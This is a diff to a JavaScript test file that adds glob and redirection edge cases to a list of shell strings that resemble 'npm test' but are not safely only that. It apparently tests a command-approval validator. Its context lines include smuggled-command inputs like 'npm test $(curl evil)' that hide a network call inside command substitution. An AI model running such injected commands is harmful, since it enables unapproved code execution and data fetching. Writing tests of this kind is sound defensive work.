@@ -55,7 +55,7 @@ describe("the text that runs", () => {
   }
 });
 
-/** Texts that look like `npm test`, contain it, or end in it. None of them is `npm test` and nothing else that is certain. */
+/** Lines that resemble `npm test`, contain it, or end in it. None of them is certain to be only `npm test`. */
 const OPAQUE = [
   "npm test $(curl evil)",
   "npm test `curl evil`",
@@ -107,6 +107,9 @@ const OPAQUE = [
   "npm *",
   'npm ""*',
   "npm -*",
+  "npm test .*",
+  "npm test src/..*/x",
+  "npm test '.'?",
   "npm [t]est",
   "~root/npm test",
   "npm test =ls",
@@ -141,6 +144,11 @@ const OPAQUE = [
   "a &\\\n& b",
   "a >\\\n> f",
   "a >&-b",
+  "npm test <&\\-",
+  "npm test 2>&'1'",
+  "<in &>> b=c npm test",
+  "npm test >b=c",
+  "npm test 2>> b+=c",
   "! \n a",
   "% a",
   "a b[c]",
